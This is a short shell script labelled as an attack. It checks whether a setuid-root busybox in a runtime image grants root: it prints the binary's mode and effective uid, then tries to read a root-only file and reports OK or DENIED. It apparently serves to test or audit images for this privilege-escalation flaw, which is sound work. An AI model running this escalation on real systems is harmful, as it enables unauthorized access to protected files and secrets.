# Attack: gain root through a setuid-root busybox shipped in the runtime image.
# Usage: setuid.sh PATH_TO_SETUID_BUSYBOX ROOT_ONLY_FILE
suid=$1
secret=$2
ls -ln "$suid" | sed 's/^/mode: /'
echo "uid: $("$suid" id -u)"
echo "euid via status: $("$suid" grep '^Uid:' /proc/self/status)"
if "$suid" cat "$secret" >/dev/null 2>&1; then
    echo "read root-only file: OK"
else
    echo "read root-only file: DENIED"
fi
